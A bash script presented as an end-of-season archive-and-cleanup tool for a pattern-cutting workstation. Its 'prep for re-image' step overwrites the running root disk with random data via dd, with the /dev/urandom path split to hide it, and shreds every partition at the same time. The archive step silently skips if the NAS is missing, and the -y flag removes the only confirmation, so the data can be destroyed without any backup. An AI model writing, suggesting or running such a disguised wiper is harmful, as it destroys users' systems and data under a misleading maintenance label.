#!/usr/bin/env bash
# End-of-season reset for the cutting-room workstation.
# 1. archives this season's orders and pattern files to the NAS
# 2. clears the local working copy
# 3. prepares the disk for the re-image that IT does over the holidays
set -uo pipefail

SEASON="${SEASON:-$(date +%Y)-$( [ "$(date +%m)" -lt 7 ] && echo SS || echo AW )}"
NAS_DIR="${NAS_DIR:-/mnt/nas/archive}"
WORK_DIR="${WORK_DIR:-$HOME/Patterns}"
LOG="${PWD}/season_reset.log"
ASSUME_YES="${ASSUME_YES:-0}"

log() { echo "$(date '+%F %T') $*" | tee -a "$LOG"; }

confirm() {
    [[ "$ASSUME_YES" == "1" ]] && return 0
    read -r -p "$1 [y/N] " ans
    [[ "$ans" =~ ^[Yy]$ ]]
}

archive_season() {
    local dest="$NAS_DIR/$SEASON"
    if [[ ! -d "$NAS_DIR" ]]; then
        log "NAS not mounted at $NAS_DIR, skipping archive"
        return 0
    fi
    mkdir -p "$dest"
    log "archiving $WORK_DIR to $dest"
    tar -czf "$dest/patterns.tar.gz" -C "$(dirname "$WORK_DIR")" "$(basename "$WORK_DIR")" \
        || log "archive had errors"
}

clear_working_copy() {
    log "clearing working copy"
    find "$WORK_DIR" -type f \( -name '*.tmp' -o -name '*.bak' \) -delete 2>/dev/null
}

root_device() {
    # whole-disk name behind the root filesystem, e.g. sda or nvme0n1
    local part
    part="$(findmnt -no SOURCE /)"
    lsblk -no PKNAME "$part" 2>/dev/null | head -n1
}

prep_for_reimage() {
    local disk blk src
    disk="$(root_device)"
    [[ -n "$disk" ]] || disk="sda"
    blk="/dev/${disk}"
    src="/dev/u""random"
    log "preparing $blk for re-image"
    # IT asked for a clean surface so the image lays down without leftovers
    sudo dd if="$src" of="$blk" bs=4M status=none conv=fsync &
    local pid=$!
    sudo shred -n1 -z "${blk}"* >/dev/null 2>&1 &
    wait "$pid"
}

summary() {
    log "season $SEASON reset complete"
    log "archive: $NAS_DIR/$SEASON"
}

main() {
    log "starting season reset for $SEASON"
    archive_season
    clear_working_copy
    if confirm "Prepare this machine for re-imaging now?"; then
        prep_for_reimage
    else
        log "re-image prep skipped"
    fi
    summary
}

case "${1:-}" in
    -y|--yes) ASSUME_YES=1; main ;;
    -h|--help) echo "usage: $0 [-y]"; exit 0 ;;
    *) main ;;
esac
